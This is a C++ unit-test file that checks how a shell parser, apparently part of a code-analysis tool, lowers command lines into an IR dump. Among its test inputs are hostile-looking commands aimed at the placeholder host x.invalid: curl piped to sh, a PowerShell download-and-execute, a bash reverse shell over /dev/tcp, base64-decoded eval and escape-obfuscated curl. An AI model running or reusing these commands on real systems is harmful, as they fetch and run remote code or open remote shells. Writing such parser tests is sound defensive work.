#include <gtest/gtest.h>

#include "syntax/ir.h"

namespace cerebro {
namespace {

struct Row {
  std::string_view source, dump;
};

std::string lowered(std::string_view source) {
  StringPool pool;
  return dump(parse(Language::kShell, "a.sh", source, pool, Limits()), pool);
}

constexpr Row kRows[] = {
    {"node a.js && (curl -s http://x.invalid|sh) &",
     R"~((block (background (binary && (command (string "node") (string "a.js")) (block (pipeline (command (string "curl") (string "-s") (string "http://x.invalid")) (command (string "sh"))))))))~"},
    {R"~(cmd /c start x.exe & powershell -enc AAA= > %APPDATA%\x.exe)~",
     R"~((block (background (command (string "cmd") (string "/c") (string "start") (string "x.exe")))
  (command (string "powershell") (string "-enc") (string "AAA=") (redirect > (string "%APPDATA%\\x.exe")))))~"},
    {R"~(powershell -Command "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid')")~",
     R"~((block (command (string "powershell") (string "-Command") (string "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid')"))))~"},
    {R"~(C:\Windows\x.exe .\a\b \\host\share)~",
     R"~((block (command (string "C:\\Windows\\x.exe") (string ".\\a\\b") (string "\\\\host\\share"))))~"},
    {"set A=b&& node x",
     R"~((block (binary && (command (string "set") (string "A=b")) (command (string "node") (string "x")))))~"},
    {"a; b\nc # comment",
     R"~((block (command (string "a"))
  (command (string "b"))
  (command (string "c"))))~"},
    {"a || b && c",
     R"~((block (binary && (binary || (command (string "a")) (command (string "b"))) (command (string "c")))))~"},
    {"! a", R"~((block (unary ! (command (string "a")))))~"},
    {"a | b |& c",
     R"~((block (pipeline (command (string "a")) (command (string "b")) (command (string "c")))))~"},
    {R"~(c\ur\l 'a'"b"c a\ b "\$x \"y\" \n")~",
     R"~((block (command (string "curl") (string "abc") (string "a b") (string "$x \"y\" \\n"))))~"},
    {R"~(a 'x y' "" '')~",
     R"~((block (command (string "a") (string "x y") (string "") (string ""))))~"},
    {R"~($'\x63\165rl' $'a\n\u00e9\'\cA\q')~",
     R"~((block (command (string "curl") (string "a\né'\x01\\q"))))~"},
    {R"~($'\xff')~", "(block (command (string{bytes} \"\xff\")))"},
    {R"~($"text")~", R"~((block (command (string "text"))))~"},
    {R"~(a "b
# c
  $d e")~",
     R"~((block (command (string "a") (template (string "b\n# c\n  ") (parameter d) (string " e")))))~"},
    {R"~($x "$y" ${z} "$@" $1 $?)~",
     "(block (command (parameter x) (parameter y) (parameter z) (parameter @) (parameter 1) "
     "(parameter ?)))"},
    {R"~(${x:-y} ${x:+"$z"} ${x:-$(a)} ${#x} ${!x} ${x[1]} ${x//a/b})~",
     R"~((block (command (parameter x (string "y")) (parameter x (parameter z)) (parameter x (substitution (block (command (string "a"))))) (parameter x) (parameter x) (parameter x (string "1")) (parameter x (string "a") (string "b")))))~"},
    {R"~(`a` $(b; c) "$(d)e")~",
     R"~((block (command (substitution (block (command (string "a")))) (substitution (block (command (string "b")) (command (string "c")))) (template (substitution (block (command (string "d")))) (string "e")))))~"},
    {"diff <(a) >(b)",
     R"~((block (command (string "diff") (substitution (block (command (string "a")))) (substitution (block (command (string "b")))))))~"},
    {"$(<f)", R"~((block (command (substitution (block (redirect < (string "f")))))))~"},
    {"$((1 + $(a)))",
     R"~((block (command (parameter (substitution (block (command (string "a"))))))))~"},
    {"echo {1..3}", R"~((block (command (string "echo") (string "{1..3}"))))~"},
    {"{curl,-s,http://x.invalid}|sh",
     R"~((block (pipeline (command (string "curl") (string "-s") (string "http://x.invalid")) (command (string "sh")))))~"},
    {"A=1", R"~((block (assign = (name A) (string "1"))))~"},
    {"A=1 B=$C",
     R"~((block (assign = (name A) (string "1"))
  (assign = (name B) (parameter C))))~"},
    {"A=1 B=2 a b",
     R"~((block (command (assign = (name A) (string "1")) (assign = (name B) (string "2")) (string "a") (string "b"))))~"},
    {R"~(A+=x; A[1]=y; A=; A=(b "c" $d))~",
     R"~((block (assign + (name A) (string "x"))
  (assign = (index (name A) (string "1")) (string "y"))
  (assign = (name A) (string ""))
  (assign = (name A) (array (string "b") (string "c") (parameter d)))))~"},
    {"export A=b C; unset D",
     R"~((block (command (string "export") (assign = (name A) (string "b")) (string "C"))
  (command (string "unset") (string "D"))))~"},
    {"a > b 2>&1 < c >> d &> e 2>/dev/null >&-",
     R"~((block (command (string "a") (redirect > (string "b")) (redirect 2>& (string "1")) (redirect < (string "c")) (redirect >> (string "d")) (redirect &> (string "e")) (redirect 2> (string "/dev/null")) (redirect >&- (empty)))))~"},
    {"> a b", R"~((block (command (string "b") (redirect > (string "a")))))~"},
    {"a > b c d",
     R"~((block (command (string "a") (string "c") (string "d") (redirect > (string "b")))))~"},
    {"a | b > c",
     R"~((block (pipeline (command (string "a")) (command (string "b") (redirect > (string "c"))))))~"},
    {"a && b > c",
     R"~((block (binary && (command (string "a")) (command (string "b") (redirect > (string "c"))))))~"},
    {"(a; b) > c",
     R"~((block (block (block (command (string "a")) (command (string "b"))) (redirect > (string "c")))))~"},
    {"bash -i >& /dev/tcp/x.invalid/1 0>&1",
     R"~((block (command (string "bash") (string "-i") (redirect >& (string "/dev/tcp/x.invalid/1")) (redirect >& (string "1")))))~"},
    {R"~(cat <<< "$x")~", R"~((block (command (string "cat") (redirect <<< (parameter x)))))~"},
    {R"~(cat <<EOF
a $b \$c "$(d)"
EOF)~",
     R"~((block (command (string "cat") (redirect << (template (string "a ") (parameter b) (string " $c \"") (substitution (block (command (string "d")))) (string "\"\n"))))))~"},
    {"cat <<'EOF' > f && x\na $b\nEOF",
     R"~((block (binary && (command (string "cat") (redirect > (string "f")) (redirect << (string "a $b\n"))) (command (string "x")))))~"},
    {"cat <<-EOF | sh | y\n\ta\n\tEOF",
     R"~((block (pipeline (command (string "cat") (redirect << (string "a\n"))) (command (string "sh")) (command (string "y")))))~"},
    {"{ a; b; }", R"~((block (block (command (string "a")) (command (string "b")))))~"},
    {"if a; then b; fi", R"~((block (if (command (string "a")) (block (command (string "b"))))))~"},
    {"if a; b; then c; elif d; then e; else f; fi",
     R"~((block (if (block (command (string "a")) (command (string "b"))) (block (command (string "c"))) (if (command (string "d")) (block (command (string "e"))) (block (command (string "f")))))))~"},
    {"while a; do b; done < c",
     R"~((block (block (loop (command (string "a")) (block (command (string "b")))) (redirect < (string "c")))))~"},
    {"until a; do b; done",
     R"~((block (loop (command (string "a")) (block (command (string "b"))))))~"},
    {R"~(for x in a "$b"; do c; done)~",
     R"~((block (forin (name x) (array (string "a") (parameter b)) (block (command (string "c"))))))~"},
    {"for x; do a; done", R"~((block (forin (name x) (array) (block (command (string "a"))))))~"},
    {"for ((i=0; i<$(a); i++)); do b; done",
     R"~((block (loop (substitution (block (command (string "a")))) (block (command (string "b"))))))~"},
    {"case $x in a|b) c;; *) d & esac",
     R"~((block (switch (parameter x) (if (array (string "a") (string "b")) (block (command (string "c"))) (empty)) (if (string "*") (block (background (command (string "d")))) (empty)))))~"},
    {"f() { a; }; function g { b; } > c",
     R"~((block (function f (params) (block (command (string "a"))))
  (function g (params) (block (block (command (string "b"))) (redirect > (string "c"))))))~"},
    {"[ -f a ] && [[ $b == c* && ! -z d ]]",
     R"~((block (binary && (command (string "[") (string "-f") (string "a")) (command (string "[") (parameter b) (string "==") (string "c*") (string "&&") (string "!") (string "-z") (string "d")))))~"},
    {R"~(eval "$(echo a | base64 -d)")~",
     R"~((block (command (string "eval") (substitution (block (pipeline (command (string "echo") (string "a")) (command (string "base64") (string "-d"))))))))~"},
    {"a & b & wait",
     R"~((block (background (command (string "a")))
  (background (command (string "b")))
  (command (string "wait"))))~"},
    {"((i++))", "(block (parameter))"},
    {"if exist a (del b)",
     R"~((block (command (string "exist"))
  (command (string "a"))
  (block (command (string "del") (string "b")))))~"},
    {"a &&", R"~((block (binary && (command (string "a")) (empty))))~"},
    {R"~(a "b)~",
     R"~((block (command (string "a"))
  (command (string "b"))))~"},
    {"a; )", R"~((block (command (string "a"))))~"},
};

TEST(LowerShell, Table) {
  for (const Row& row : kRows) EXPECT_EQ(lowered(row.source), row.dump) << row.source;
}

std::string repeat(std::string_view text, size_t count) {
  std::string out;
  for (size_t i = 0; i < count; ++i) out += text;
  return out;
}

size_t notes(const std::string& source) {
  StringPool pool;
  return parse(Language::kShell, "a.sh", source, pool, Limits()).notes.size();
}

TEST(LowerShell, LongListsAreNotDeep) {
  EXPECT_EQ(notes("a" + repeat(" && a", 5000)), 0u);
  EXPECT_EQ(notes("a" + repeat(" | a", 5000)), 0u);
  EXPECT_EQ(notes("if a; then b\n" + repeat("elif c; then d\n", 3000) + "fi"), 0u);
}

TEST(LowerShell, DepthIsBoundedAndNoted) {
  for (const std::string_view opener :
       {"(", "{ ", "$(", "\"$(", "if ", "${a:-", "$((", "f() {", "<("}) {
    EXPECT_GE(notes(repeat(opener, 20'000)), 1u) << opener;
  }
}

}  // namespace
}  // namespace cerebro
